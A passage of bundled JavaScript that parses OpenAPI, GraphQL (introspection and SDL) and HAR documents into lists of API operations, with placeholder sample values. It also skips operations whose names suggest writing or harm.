const {operationId: operationId, summary: summary} = item["get"];
const text = value => typeof value === "string" ? value : "";
if (namesWriting(path, text(operationId), text(summary))) return [];
const parameters = [ ...listOf(item["parameters"]), ...listOf(item["get"]["parameters"]) ].map(parameter => resolved(parameter, document)).filter(shared_records.u4);
const filled = path.replace(/\{([^{}/]{1,60})\}/g, (_, name) => encodeURIComponent(exampleOf(parameters.find(each => each["name"] === name) ?? {}, document)));
if (/[{}]/.test(filled)) return [];
const query = parameters.filter(parameter => parameter["in"] === "query" && typeof parameter["name"] === "string").slice(0, 20).map(parameter => [ String(parameter["name"]), exampleOf(parameter, document) ]);
const search = new URLSearchParams(query).toString();
return [ `${prefix}${filled}${search === "" ? "" : `?${search}`}` ];
});
}
function prefixOf(document) {
const [server] = listOf(document["servers"]);
const base = (0, shared_records.u4)(server) ? server["url"] : document["basePath"];
return typeof base === "string" && !base.includes("{") ? base.replace(/(?<!\/)\/+$/, "") : "";
}
function listOf(value) {
return Array.isArray(value) ? value.slice(0, 50) : [];
}
function resolved(value, document) {
const reference = (0, shared_records.u4)(value) ? value["$ref"] : undefined;
if (typeof reference !== "string" || !reference.startsWith("#/")) return value;
let target = document;
for (const part of reference.slice(2).split("/", 10)) target = (0, shared_records.u4)(target) ? target[part.replaceAll("~1", "/").replaceAll("~0", "~")] : undefined;
return target;
}
function exampleOf(parameter, document) {
const inner = resolved(parameter["schema"], document);
const schema = (0, shared_records.u4)(inner) ? inner : {};
const [choice] = listOf(schema["enum"] ?? parameter["enum"]);
const candidates = [ parameter["example"], schema["example"], schema["default"], parameter["default"], choice ];
const given = candidates.find(value => [ "string", "number", "boolean" ].includes(typeof value));
if (given !== undefined) return String(given).slice(0, 200);
const type = schema["type"] ?? parameter["type"];
return type === "integer" || type === "number" ? "1" : type === "boolean" ? "true" : "test";
}
const TYPES_MAX = 2e3;
const FIELDS_MAX = 500;
const WRAPPERS_MAX = 8;
const INTROSPECTION = JSON.stringify({
query: "query{__schema{queryType{name} mutationType{name} types{kind name fields{name args{...I} type{...T}} inputFields{...I} enumValues{name}}}} " + "fragment I on __InputValue{name type{...T} defaultValue} " + "fragment T on __Type{kind name ofType{kind name ofType{kind name ofType{kind name ofType{kind name ofType{kind name}}}}}}"
});
const KINDS = {
SCALAR: "scalar",
OBJECT: "object",
INTERFACE: "interface",
UNION: "union",
ENUM: "enum",
INPUT_OBJECT: "input"
};
function isGraphQlName(value) {
return typeof value === "string" && /^[A-Za-z_]\w{0,100}$/.test(value);
}
function introspectedSchema(document) {
const data = (0, shared_records.u4)(document["data"]) ? document["data"] : document;
const schema = data["__schema"];
if (!(0, shared_records.u4)(schema) || !Array.isArray(schema["types"])) return null;
const types = new Map;
for (const type of schema["types"].slice(0, TYPES_MAX)) {
if (!(0, shared_records.u4)(type) || !isGraphQlName(type["name"])) continue;
types.set(type["name"], {
kind: (0, shared_records.eC)(KINDS, String(type["kind"])) ?? "scalar",
fields: graphql_schema_listOf(type["fields"]).flatMap(fieldOf),
inputs: graphql_schema_listOf(type["inputFields"]).flatMap(inputOf),
values: graphql_schema_listOf(type["enumValues"]).flatMap(({name: name}) => isGraphQlName(name) ? [ name ] : [])
});
}
const root = name => {
const type = schema[name];
return (0, shared_records.u4)(type) && isGraphQlName(type["name"]) ? type["name"] : null;
};
return {
query: root("queryType"),
mutation: root("mutationType"),
types: types
};
}
function graphql_schema_listOf(value) {
return Array.isArray(value) ? value.slice(0, FIELDS_MAX).filter(shared_records.u4) : [];
}
function fieldOf(field) {
const type = referenceOf(field["type"]);
if (!isGraphQlName(field["name"]) || type === null) return [];
return [ {
name: field["name"],
inputs: graphql_schema_listOf(field["args"]).flatMap(inputOf),
type: type
} ];
}
function inputOf(input) {
const type = referenceOf(input["type"]);
if (!isGraphQlName(input["name"]) || type === null) return [];
return [ {
name: input["name"],
type: type,
hasDefault: typeof input["defaultValue"] === "string"
} ];
}
function referenceOf(value, depth = WRAPPERS_MAX) {
if (!(0, shared_records.u4)(value) || depth === 0) return null;
const {kind: kind, name: name} = value;
if (kind !== "LIST" && kind !== "NON_NULL") return isGraphQlName(name) ? {
text: name,
name: name
} : null;
const inner = referenceOf(value["ofType"], depth - 1);
if (inner === null) return null;
return {
name: inner.name,
text: kind === "LIST" ? `[${inner.text}]` : `${inner.text}!`
};
}
const OPERATIONS_MAX = 500;
const LENGTH_MAX = 200;
const OF_FORMAT = {
uuid: "00000000-0000-4000-8000-000000000001",
date: "2024-01-01",
"date-time": "2024-01-01T00:00:00Z",
time: "12:00:00Z",
duration: "P1D",
email: "visitor@example.com",
"idn-email": "visitor@example.com",
uri: "http://example.com/",
url: "http://example.com/",
"uri-reference": "/",
iri: "http://example.com/",
hostname: "example.com",
"idn-hostname": "example.com",
ipv4: "192.0.2.1",
ip: "192.0.2.1",
ipv6: "2001:db8::1",
byte: "dGVzdA==",
binary: "test",
int64: "1",
int32: "1"
};
const OF_NAME = [ [ "sample-email", "visitor@example.com" ], [ "sample-url", "http://example.com/" ], [ "sample-id", "1" ], [ "sample-date", "2024-01-01" ], [ "sample-phone", "5550100" ], [ "sample-number", "1" ] ];
function sampleOf(schema, type, name) {
if (type === "boolean") return true;
if (type === "integer" || type === "number") return numberWithin(schema, type);
const format = schema["format"];
const ofFormat = typeof format === "string" ? (0, shared_records.eC)(OF_FORMAT, format) : undefined;
if (ofFormat !== undefined) return ofFormat;
return withLength(OF_NAME.find(([list]) => (0, data_names.cP)(list, name))?.[1] ?? "test", schema);
}
function withLength(text, schema) {
const minimum = Math.min(finite(schema["minLength"]) ?? 0, LENGTH_MAX);
const maximum = finite(schema["maxLength"]) ?? LENGTH_MAX;
return text.padEnd(minimum, text).slice(0, Math.max(1, maximum));
}
function numberWithin(schema, type) {
const step = type === "integer" ? 1 : .5;
const bound = (name, exclusive, sign) => {
const limit = finite(schema[name]);
const outer = finite(schema[exclusive]);
if (outer !== null) return outer + sign * step;
return limit !== null && schema[exclusive] === true ? limit + sign * step : limit;
};
const minimum = bound("minimum", "exclusiveMinimum", 1);
const maximum = bound("maximum", "exclusiveMaximum", -1);
const value = Math.min(Math.max(1, minimum ?? 1), maximum ?? Number.MAX_SAFE_INTEGER);
return type === "integer" ? Math.ceil(value) : value;
}
function finite(value) {
return typeof value === "number" && Number.isFinite(value) ? value : null;
}
function isJsonScalar(value) {
if (typeof value === "number") return Number.isFinite(value);
return value === null || typeof value === "string" || typeof value === "boolean";
}
function textOfValue(value) {
if (isJsonScalar(value)) return value === null ? "" : String(value).slice(0, 500);
const items = value;
if (Array.isArray(items) && items.every(isJsonScalar)) return items.map(String).join(",").slice(0, 500);
return JSON.stringify(value).slice(0, 500);
}
const graphql_operations_DEPTH_MAX = 3;
const SELECTED_MAX = 12;
const NESTED_MAX = 4;
const INPUTS_MAX = 20;
const SCALARS = {
String: "string",
ID: "string",
Int: "integer",
Float: "number",
Boolean: "boolean"
};
function graphQlOperations(schema, endpoint) {
const of = kind => {
const root = schema[kind];
const fields = root === null ? [] : schema.types.get(root)?.fields ?? [];
return fields.map(field => operationOf(schema, kind, field, endpoint));
};
const mutations = of("mutation");
const sent = mutations.filter(({id: id}) => !(0, data_names.cP)("changes", id.slice("mutation ".length)) && !isHarmfulName(id));
const operations = [ ...of("query"), ...sent ];
return {
format: "graphql",
version: "",
operations: operations.slice(0, OPERATIONS_MAX),
leftOut: Math.max(0, operations.length - OPERATIONS_MAX) + mutations.length - sent.length
};
}
function operationOf(schema, kind, field, endpoint) {
const inputs = field.inputs.slice(0, INPUTS_MAX);
const variable = name => `${field.name}_${name}`;
const declared = inputs.map(({name: name, type: type}) => `$${variable(name)}:${type.text}`).join(",");
const passed = inputs.map(({name: name}) => `${name}:$${variable(name)}`).join(",");
const call = inputs.length === 0 ? field.name : `${field.name}(${passed})`;
const query = `${kind}${inputs.length === 0 ? "" : `(${declared})`}{${call}${selectionOf(schema, field.type, graphql_operations_DEPTH_MAX)}}`;
const required = inputs.filter(isRequired);
const variables = Object.fromEntries(required.map(input => [ variable(input.name), sampleFor(schema, input, graphql_operations_DEPTH_MAX) ]));
return {
format: "graphql",
id: `${kind} ${field.name}`,
method: "POST",
template: `${endpoint.origin}${endpoint.pathname}`,
parameters: [],
headers: [],
body: {
encoding: "json",
schema: {
type: "object",
properties: new Map([ [ "query", {
type: "string"
} ], [ "variables", {
type: "object",
properties: new Map(inputs.map(({name: name, type: type}) => [ variable(name), {
type: typeOf(type)
} ]))
} ] ])
},
value: {
query: query,
variables: variables
}
},
response: null,
security: "unknown",
scopes: [],
isRead: kind === "query" && !namesWriting(field.name, field.name)
};
}
function variablesOf({id: id, body: body}) {
const prefix = id.length - id.indexOf(" ");
const properties = body?.schema.properties?.get("variables")?.properties ?? new Map;
return [ ...properties ].map(([variable, {type: type}]) => ({
variable: variable,
argument: variable.slice(prefix),
type: type
}));
}
function typeOf({text: text, name: name}) {
return text.startsWith("[") ? "array" : (0, shared_records.eC)(SCALARS, name) ?? "unknown";
}
function isRequired({type: type, hasDefault: hasDefault}) {
return type.text.endsWith("!") && !hasDefault;
}
function sampleFor(schema, {name: name, type: type}, depth) {
const one = ofNamed(schema, name, type.name, depth);
return type.text.startsWith("[") ? [ one ] : one;
}
function ofNamed(schema, name, typeName, depth) {
const scalar = (0, shared_records.eC)(SCALARS, typeName);
if (scalar !== undefined) return sampleOf({}, scalar, name);
const type = schema.types.get(typeName);
if (type?.kind === "enum") return type.values[0] ?? "";
if (type?.kind !== "input" || depth === 0) return sampleOf({}, "string", name);
const inputs = type.inputs.slice(0, INPUTS_MAX).filter(isRequired);
return Object.fromEntries(inputs.map(input => [ input.name, sampleFor(schema, input, depth - 1) ]));
}
function selectionOf(schema, {name: name}, depth) {
const type = schema.types.get(name);
if (type === undefined || type.kind === "scalar" || type.kind === "enum" || type.kind === "input") return "";
if (type.kind === "union" || depth === 0) return "{__typename}";
const free = type.fields.filter(({inputs: inputs}) => !inputs.some(isRequired));
const isLeaf = field => selectionOf(schema, field.type, 0) === "";
const leaves = free.filter(isLeaf).slice(0, SELECTED_MAX).map(field => field.name);
const nested = depth === 1 ? [] : free.filter(field => !isLeaf(field)).slice(0, NESTED_MAX).map(field => `${field.name}${selectionOf(schema, field.type, depth - 1)}`);
const names = [ ...leaves, ...nested ];
return `{${names.length === 0 ? "__typename" : names.join(" ")}}`;
}
const TOKENS_MAX = 3e5;
const graphql_sdl_DEPTH_MAX = 50;
const graphql_sdl_KINDS = {
type: "object",
interface: "interface",
input: "input",
enum: "enum",
union: "union",
scalar: "scalar"
};
const ENDS_HEAD = new Set([ ...Object.keys(graphql_sdl_KINDS), '""', "extend", "schema", "directive" ]);
function sdlSchema(text) {
if (!/(?:^|\n)[ \t]{0,20}(?:extend[ \t]{1,5})?(?:type|schema)[ \t{]/.test(text)) return null;
return new SdlReader(text).schema();
}
function tokensOf(text) {
const tokens = [];
const pattern = /#[^\n]*|"""|"|[A-Za-z_]\w*|-?\d[\w.+-]*|\.\.\.|[!$&()[\]{}:=@|]/g;
for (let match = pattern.exec(text); match !== null && tokens.length < TOKENS_MAX; match = pattern.exec(text)) {
const [token] = match;
if (token === '"""') {
const end = text.indexOf('"""', pattern.lastIndex);
if (end === -1) break;
pattern.lastIndex = end + 3;
tokens.push('""');
} else if (token === '"') {
pattern.lastIndex = endOfString(text, pattern.lastIndex);
tokens.push('""');
} else if (!token.startsWith("#")) tokens.push(token);
}
return tokens;
}
function endOfString(text, start) {
for (let at = start; at < text.length; at += 1) {
if (text[at] === "\n") return at;
if (text[at] === '"') return at + 1;
if (text[at] === "\\") at += 1;
}
return text.length;
}
class SdlReader {
#tokens;
#types=new Map;
#at=0;
#query=null;
#mutation=null;
constructor(text) {
this.#tokens = tokensOf(text);
}
schema() {
while (this.#at < this.#tokens.length) {
const word = this.#next();
if (word === "schema") this.#roots(); else if (word !== undefined && Object.hasOwn(graphql_sdl_KINDS, word)) this.#definition(graphql_sdl_KINDS[word] ?? "scalar"); else if (word === "{" || word === "(") this.#skipGroup();
}
const root = (named, usual) => named ?? (this.#types.has(usual) ? usual : null);
const query = root(this.#query, "Query");
return query === null ? null : {
query: query,
mutation: root(this.#mutation, "Mutation"),
types: this.#types
};
}
#peek() {
return this.#tokens[this.#at];
}
#next() {
this.#at += 1;
return this.#tokens[this.#at - 1];
}
#roots() {
this.#skipTo("{");
while (this.#peek() !== undefined && this.#peek() !== "}") {
const [name, colon, type] = [ this.#next(), this.#next(), this.#next() ];
if (colon !== ":" || !isGraphQlName(type)) break;
if (name === "query") this.#query = type;
if (name === "mutation") this.#mutation = type;
}
this.#skipTo("}");
}
#definition(kind) {
const name = this.#next();
if (!isGraphQlName(name)) return;
const members = {
fields: [],
inputs: [],
values: []
};
if (kind !== "scalar" && kind !== "union" && this.#findBody()) {
while (this.#peek() !== undefined && this.#peek() !== "}") this.#member(kind, members);
this.#at += 1;
}
const known = this.#types.get(name);
this.#types.set(name, {
kind: kind,
fields: [ ...known?.fields ?? [], ...members.fields ],
inputs: [ ...known?.inputs ?? [], ...members.inputs ],
values: [ ...known?.values ?? [], ...members.values ]
});
}
#member(kind, {fields: fields, inputs: inputs, values: values}) {
const name = this.#next();
if (!isGraphQlName(name)) return;
if (kind === "enum") values.push(name);
const given = this.#peek() === "(" ? this.#arguments() : [];
if (this.#peek() === ":") {
this.#at += 1;
const type = this.#type(graphql_sdl_DEPTH_MAX);
const hasDefault = this.#default();
if (type !== null && kind === "input") inputs.push({
name: name,
type: type,
hasDefault: hasDefault
}); else if (type !== null) fields.push({
name: name,
inputs: given,
type: type
});
}
this.#directives();
}
#findBody() {
for (let token = this.#peek(); token !== undefined && !ENDS_HEAD.has(token); token = this.#peek()) {
if (token === "@") this.#directives(); else this.#at += 1;
if (token === "{") return true;
}
return false;
}
#arguments() {
const found = [];
this.#at += 1;
while (this.#peek() !== undefined && this.#peek() !== ")") {
const name = this.#next();
if (!isGraphQlName(name) || this.#peek() !== ":") continue;
this.#at += 1;
const type = this.#type(graphql_sdl_DEPTH_MAX);
const hasDefault = this.#default();
this.#directives();
if (type !== null) found.push({
name: name,
type: type,
hasDefault: hasDefault
});
}
this.#at += 1;
return found;
}
#type(depth) {
const token = this.#next();
let type = null;
if (token === "[" && depth > 0) {
const inner = this.#type(depth - 1);
if (this.#peek() === "]") this.#at += 1;
type = inner === null ? null : {
name: inner.name,
text: `[${inner.text}]`
};
} else if (isGraphQlName(token)) type = {
name: token,
text: token
};
if (this.#peek() !== "!") return type;
this.#at += 1;
return type === null ? null : {
...type,
text: `${type.text}!`
};
}
#default() {
if (this.#peek() !== "=") return false;
this.#at += 1;
this.#value();
return true;
}
#value() {
const token = this.#next();
if (token === "{" || token === "[") this.#skipGroup(); else if (token === "$") this.#at += 1;
}
#directives() {
while (this.#peek() === "@") {
this.#at += 2;
if (this.#peek() !== "(") continue;
this.#at += 1;
this.#skipGroup();
}
}
#skipGroup() {
let depth = 1;
while (depth > 0 && this.#at < this.#tokens.length) {
const token = this.#next() ?? "";
if ("{[(".includes(token)) depth += 1; else if ("}])".includes(token)) depth -= 1;
}
}
#skipTo(mark) {
while (this.#peek() !== undefined && this.#next() !== mark) ;
}
}
var url_shape = __webpack_require__(6090);
const BODY_MAX = 64 * 1024;
const PAIRS_MAX = 30;
const recorded_request_DEPTH_MAX = 5;
const METHODS = new Set([ "GET", "HEAD", "POST", "PUT", "PATCH", "DELETE" ]);
function operationOfCall(format, {method: method, url: url, path: path, headers: headers, body: body, name: name}, origin) {
const verb = method.toUpperCase();
if (!METHODS.has(verb) || url.href.length > 2e3) return null;
const {template: template, values: values} = templateOf(url, path);
const sent = body === null ? null : bodyOf(body);
if (body !== null && sent === null && verb !== "GET" && verb !== "HEAD") return null;
const isReading = verb === "GET" || verb === "HEAD";
const query = [ ...url.searchParams ].slice(0, PAIRS_MAX);
return {
format: format,
id: `${verb} ${template}`,
method: verb,
template: origin + template,
parameters: [ ...[ ...values ].map(([key, value]) => parameter("path", key, value)), ...query.filter(([key]) => !(0, 
data_names.cP)("kept-header", key)).map(([key, value]) => parameter("query", key, value)), ...headers.filter(([key]) => /^[\w.-]{1,100}$/.test(key) && !(0, 
data_names.cP)("kept-header", key)).slice(0, PAIRS_MAX).map(([key, value]) => parameter("header", key, value.slice(0, 500))) ],
headers: [],
body: isReading ? null : sent,
response: null,
security: "unknown",
scopes: [],
isRead: isReading && !namesWriting(template, name)
};
}
function parameter(place, name, value) {
return {
in: place,
name: name.slice(0, 200),
isRequired: true,
schema: {
type: "string"
},
value: value
};
}
function templateOf(url, given) {
const values = new Map(given);
const shapes = (0, url_shape.j4)(url).split("/");
const segments = url.pathname.replaceAll("%7B", "{").replaceAll("%7D", "}").split("/");
const template = segments.map((segment, index) => {
if (segment.startsWith("{") || !/^\{(?:n|id)\}$/.test(shapes[index] ?? "")) return segment;
let name = "id";
for (let count = 2; values.has(name); count += 1) name = `id${count}`;
values.set(name, segment);
return `{${name}}`;
});
return {
template: template.join("/"),
values: values
};
}
function bodyOf({type: type, text: text}) {
if (text.length > BODY_MAX) return null;
if (/^application\/x-www-form-urlencoded\b/i.test(type)) {
const fields = [ ...new URLSearchParams(text) ].slice(0, PAIRS_MAX);
return {
encoding: "form",
schema: objectOf(fields),
value: Object.fromEntries(fields)
};
}
if (!/\bjson\b/i.test(type)) return null;
const value = (0, shared_records.U4)(text);
return value === undefined ? null : {
encoding: "json",
schema: schemaOf(value, recorded_request_DEPTH_MAX),
value: value
};
}
function objectOf(fields) {
return {
type: "object",
properties: new Map(fields.map(([name]) => [ name, {
type: "string"
} ]))
};
}
function schemaOf(value, depth) {
if (value === null || depth === 0) return {
type: "unknown"
};
if (typeof value === "string") return {
type: "string"
};
if (typeof value === "boolean") return {
type: "boolean"
};
if (typeof value === "number") return {
type: Number.isInteger(value) ? "integer" : "number"
};
if (Array.isArray(value)) return {
type: "array",
items: schemaOf(value[0] ?? null, depth - 1)
};
const members = Object.entries(value).slice(0, PAIRS_MAX);
return {
type: "object",
properties: new Map(members.map(([name, member]) => [ name, schemaOf(member, depth - 1) ]))
};
}
const ENTRIES_MAX = 1e4;
function readHar(document, origin) {
const entries = (0, shared_records.fK)(document, [ "log", "entries" ]);
if (!Array.isArray(entries)) return null;
const found = new Map;
let leftOut = 0;
for (const entry of entries.slice(0, ENTRIES_MAX)) {
const url = URL.parse((0, shared_records.$6)(entry, "request", "url") ?? "");
const isOwn = url?.origin === origin;
if (isOwn && isFileOfPage(url)) continue;
const operation = isOwn ? har_operationOf(entry, url, origin) : null;
const hasRoom = found.size < OPERATIONS_MAX;
if (operation !== null && !found.has(operation.id) && hasRoom) found.set(operation.id, operation); else if (operation === null || !found.has(operation.id)) leftOut += 1;
}
return {
format: "har",
version: "",
operations: [ ...found.values() ],
leftOut: leftOut
};
}
function isFileOfPage(url) {
return (0, link_policy.YY)(url) || (0, link_policy.KJ)(url);
}
function har_operationOf(entry, url, origin) {
const text = (0, shared_records.$6)(entry, "request", "postData", "text");
const type = (0, shared_records.$6)(entry, "request", "postData", "mimeType") ?? "";
return operationOfCall("har", {
method: (0, shared_records.$6)(entry, "request", "method") ?? "",
url: url,
path: new Map,
headers: namedPairs((0, shared_records.fK)(entry, [ "request", "headers" ]), "name"),
body: text === null || text === "" ? null : {
type: type,
text: text
},
name: ""
}, origin);
}
function namedPairs(list, nameKey) {
const items = Array.isArray(list) ? list.slice(0, 100).filter(shared_records.u4) : [];
return items.flatMap(item => {
const {[nameKey]: name, value: value, disabled: disabled} = item;
return typeof name === "string" && name !== "" && disabled !== true ? [ [ name, typeof value === "string" ? value : "" ] ] : [];
});
}
const schema_reader_DEPTH_MAX = 6;
const schema_reader_NODES_MAX = 300;
const REFERENCES_MAX = 20;
const PROPERTIES_MAX = 40;
const EXAMPLE_DEPTH_MAX = 8;
const ALTERNATIVES_MAX = 10;
const TYPES = new Set([ "string", "number", "integer", "boolean", "array", "object" ]);
class SchemaReader {
#root;
#left=0;
constructor(root) {
this.#root = root;
}
resolve(value) {
let current = value;
for (let steps = 0; steps < REFERENCES_MAX; steps += 1) {
if (!(0, shared_records.u4)(current)) return null;
const reference = current["$ref"];
if (typeof reference !== "string") return current;
current = this.#target(reference);
}
return null;
}
read(value) {
this.#left = schema_reader_NODES_MAX;
return this.#schema(value, schema_reader_DEPTH_MAX);
}
sample(value, name) {
this.#left = schema_reader_NODES_MAX;
return this.#sample(value, name, schema_reader_DEPTH_MAX);
}
#target(reference) {
if (!reference.startsWith("#/") || reference.length > 500) return null;
let current = this.#root;
for (const part of reference.slice(2).split("/")) {
const name = decoded(part).replaceAll("~1", "/").replaceAll("~0", "~");
if (Array.isArray(current)) current = current[Number(name)]; else if ((0, shared_records.u4)(current) && Object.hasOwn(current, name)) current = current[name]; else return null;
}
return current;
}
#merged(value, depth) {
this.#left -= 1;
const node = this.resolve(value);
if (node === null || depth <= 0 || this.#left <= 0) return {};
const list = name => {
const entries = node[name];
return Array.isArray(entries) ? entries : [];
};
const first = name => list(name).filter(entry => this.resolve(entry)?.["type"] !== "null").slice(0, 1);
const parts = [ ...list("allOf").slice(0, ALTERNATIVES_MAX), ...first("oneOf"), ...first("anyOf") ];
if (parts.length === 0) return node;
return parts.map(part => this.#merged(part, depth - 1)).reduce((sum, part) => joined(part, sum), node);
}
#schema(value, depth) {
const node = this.#merged(value, depth);
const type = schema_reader_typeOf(node);
const deeper = depth > 1 && this.#left > 0;
return {
type: type,
...typeof node["format"] === "string" ? {
format: node["format"].slice(0, 50)
} : {},
...type === "object" && deeper ? this.#members(node, depth) : {},
...type === "array" && deeper ? {
items: this.#schema(node["items"], depth - 1)
} : {},
...node["readOnly"] === true ? {
isReadOnly: true
} : {},
...node["writeOnly"] === true ? {
isWriteOnly: true
} : {}
};
}
#members(node, depth) {
const properties = propertiesOf(node);
const required = requiredOf(node);
return {
properties: new Map(properties.map(([name, member]) => [ name, this.#schema(member, depth - 1) ])),
...required.length === 0 ? {} : {
required: required
},
...node["additionalProperties"] === false && isComplete(node) ? {
isClosed: true
} : {}
};
}
#sample(value, name, depth) {
const node = this.#merged(value, depth);
const given = schema_reader_exampleOf(node);
if (given !== undefined) return {
value: given,
isInvented: false
};
const type = schema_reader_typeOf(node);
const deeper = depth > 1 && this.#left > 0;
if (type === "array") return {
value: deeper ? [ this.#sample(node["items"], name, depth - 1).value ] : [],
isInvented: true
};
if (type !== "object") return {
value: sampleOf(node, type, name),
isInvented: true
};
const members = deeper ? propertiesOf(node) : [];
const sent = members.filter(([, member]) => this.resolve(member)?.["readOnly"] !== true);
return {
value: Object.fromEntries(sent.map(([key, member]) => [ key, this.#sample(member, key, depth - 1).value ])),
isInvented: true
};
}
}
function joined(one, other) {
const properties = {
...(0, shared_records.g1)(one["properties"]),
...(0, shared_records.g1)(other["properties"])
};
const required = [ ...requiredOf(one), ...requiredOf(other) ];
return {
...one,
...other,
...Object.keys(properties).length === 0 ? {} : {
properties: properties
},
...required.length === 0 ? {} : {
required: required
},
additionalProperties: true
};
}
function propertiesOf(node) {
return Object.entries((0, shared_records.g1)(node["properties"])).filter(([name]) => name !== "__proto__").slice(0, PROPERTIES_MAX);
}
function isComplete(node) {
return Object.keys((0, shared_records.g1)(node["properties"])).length <= PROPERTIES_MAX;
}
function requiredOf(node) {
const {required: required} = node;
if (!Array.isArray(required)) return [];
return required.filter(name => typeof name === "string").slice(0, PROPERTIES_MAX);
}
function schema_reader_typeOf(node) {
const listed = node["type"];
const type = Array.isArray(listed) ? listed.find(one => TYPES.has(one)) : listed;
if (TYPES.has(type)) return type;
if ((0, shared_records.u4)(node["properties"])) return "object";
if (node["items"] !== undefined) return "array";
return "unknown";
}
function schema_reader_exampleOf(node) {
const examples = node["examples"];
const [named] = (0, shared_records.u4)(examples) ? Object.values(examples) : [];
const listed = Array.isArray(examples) ? examples[0] : (0, shared_records.u4)(named) ? named["value"] : undefined;
const {enum: allowed} = node;
const first = Array.isArray(allowed) ? allowed.find(value => value !== null) : undefined;
for (const value of [ node["example"], listed, node["x-example"], node["default"], node["const"], first ]) if (value !== undefined && value !== null && isJson(value, EXAMPLE_DEPTH_MAX)) return value;
return undefined;
}
function isJson(value, depth) {
if (isJsonScalar(value)) return true;
if (depth === 0) return false;
if (Array.isArray(value)) return value.length <= 100 && value.every(item => isJson(item, depth - 1));
return (0, shared_records.u4)(value) && Object.values(value).every(item => isJson(item, depth - 1));
}
function decoded(text) {
try {
return decodeURIComponent(text);
} catch {
return text;
}
}
const JSON_TYPE = /^(?:application\/(?:[\w.+-]{1,60}\+)?json|\*\/\*)\b/i;
const FORM_TYPE = /^application\/x-www-form-urlencoded\b/i;
const MULTIPART_TYPE = /^multipart\/form-data\b/i;
const XML_TYPE = /^(?:application|text)\/(?:[\w.+-]{1,60}\+)?xml\b/i;
const ENCODINGS = [ [ "json", JSON_TYPE ], [ "form", FORM_TYPE ], [ "multipart", MULTIPART_TYPE ], [ "xml", XML_TYPE ] ];
function describedBody(place, given) {
const inBody = given.find(one => one["in"] === "body");
if (inBody !== undefined) return bodyOfSchema(place, inBody["schema"]);
const fields = given.filter(one => one["in"] === "formData");
return fields.length > 0 ? bodyOfFields(place, fields) : bodyOfContent(place);
}
function bodyOfSchema(place, schema) {
const types = consumedBy(place);
const isXml = !types.some(type => JSON_TYPE.test(type)) && types.some(type => XML_TYPE.test(type));
return built(isXml ? "xml" : "json", place.schemas, schema, undefined);
}
function bodyOfFields(place, fields) {
const types = consumedBy(place);
const isForm = types.length === 0 || types.some(type => FORM_TYPE.test(type));
if (fields.some(field => field["type"] === "file")) return "unsupported";
if (!isForm && !types.some(type => MULTIPART_TYPE.test(type))) return "unsupported";
const properties = Object.fromEntries(fields.map(field => [ String(field["name"]), field ]));
return built(isForm ? "form" : "multipart", place.schemas, {
type: "object",
properties: properties
}, undefined);
}
function bodyOfContent({schemas: schemas, node: node}) {
const {content: content} = schemas.resolve(node["requestBody"]) ?? {};
if (!(0, shared_records.u4)(content) || Object.keys(content).length === 0) return null;
const types = Object.keys(content).slice(0, 20);
for (const [encoding, pattern] of ENCODINGS) {
const media = schemas.resolve(content[types.find(type => pattern.test(type)) ?? ""]);
if (media !== null && (encoding !== "multipart" || !isUpload(schemas, media))) return built(encoding, schemas, media["schema"], schema_reader_exampleOf(media));
}
return "unsupported";
}
function consumedBy({document: document, node: node}) {
const types = node["consumes"] ?? document["consumes"];
return Array.isArray(types) ? types.slice(0, 20).map(String) : [];
}
function isUpload(schemas, media) {
const properties = schemas.resolve(media["schema"])?.["properties"];
if (!(0, shared_records.u4)(properties)) return false;
return Object.values(properties).some(property => {
const schema = schemas.resolve(property);
return schema?.["format"] === "binary" || schema?.["contentMediaType"] !== undefined;
});
}
function rootOf(schemas, schema) {
const xml = schemas.resolve(schema)?.["xml"];
if ((0, shared_records.u4)(xml) && typeof xml["name"] === "string") return xml["name"].slice(0, 100);
const reference = (0, shared_records.u4)(schema) ? schema["$ref"] : undefined;
return typeof reference === "string" ? reference.slice(reference.lastIndexOf("/") + 1).slice(0, 100) : undefined;
}
function built(encoding, schemas, schema, example) {
const sample = example === undefined ? schemas.sample(schema ?? {}, "") : {
value: example,
isInvented: false
};
const root = encoding === "xml" ? rootOf(schemas, schema) : undefined;
return {
encoding: encoding,
schema: schemas.read(schema ?? {}),
value: sample.value,
...root === undefined ? {} : {
root: root
}
};
}
const CARRIERS_MAX = 4;
const PREFIXES = [ "Bearer ", "Token ", "" ];
function tokenCarriers(document) {
const {components: components} = document;
const schemes = (0, shared_records.u4)(components) ? components["securitySchemes"] : document["securityDefinitions"];
const found = Object.values((0, shared_records.u4)(schemes) ? schemes : {}).flatMap(scheme => (0, 
shared_records.u4)(scheme) ? carriersOf(scheme) : []);
const once = new Map(found.map(carrier => [ `${carrier.header.toLowerCase()} ${carrier.prefix}`, carrier ]));
return [ ...once.values() ].slice(0, CARRIERS_MAX);
}
function carriersOf({type: type, scheme: scheme, in: place, name: name}) {
if (type === "oauth2" || type === "openIdConnect") return [ {
header: "Authorization",
prefix: "Bearer "
} ];
if (type === "http" && typeof scheme === "string" && !/^basic$/i.test(scheme)) {
const isBearer = /^bearer$/i.test(scheme);
return /^[\w-]{1,30}$/.test(scheme) ? [ {
header: "Authorization",
prefix: isBearer ? "Bearer " : `${scheme} `
} ] : [];
}
if (type !== "apiKey" || place !== "header" || typeof name !== "string") return [];
if (!/^[\w.!#$%&'*+^`|~-]{1,100}$/.test(name)) return [];
if (name.toLowerCase() !== "authorization") return [ {
header: name,
prefix: ""
} ];
return PREFIXES.map(prefix => ({
header: "Authorization",
prefix: prefix
}));
}
const SERVERS_MAX = 20;
function basePathOf(document, item, operation, address) {
if (typeof document["basePath"] === "string") return pathOf(document["basePath"], address);
if (document["swagger"] !== undefined) return "";
const listed = [ operation["servers"], item["servers"], document["servers"] ].find(servers => Array.isArray(servers) && servers.length > 0);
const servers = Array.isArray(listed) ? listed.slice(0, SERVERS_MAX).filter(shared_records.u4) : [];
const urls = servers.flatMap(server => URL.parse(withVariables(server) || "/", address) ?? []);
const own = urls.find(({origin: origin}) => origin === address.origin) ?? urls[0];
return own === undefined ? "" : pathOf(own.href, address);
}
function withVariables(server) {
const variables = (0, shared_records.u4)(server["variables"]) ? server["variables"] : {};
return String(server["url"] ?? "").slice(0, 2e3).replace(/\{([^{}]{1,100})\}/g, (_, name) => {
const variable = (0, shared_records.eC)(variables, name);
return (0, shared_records.u4)(variable) ? String(variable["default"] ?? "").slice(0, 200) : "";
});
}
function pathOf(text, address) {
let path = URL.parse(text.slice(0, 2e3), address.origin)?.pathname ?? "";
while (path.endsWith("/")) path = path.slice(0, -1);
return path.startsWith("/") ? path : "";
}
const PATHS_MAX = 5e3;
const PARAMETERS_MAX = 40;
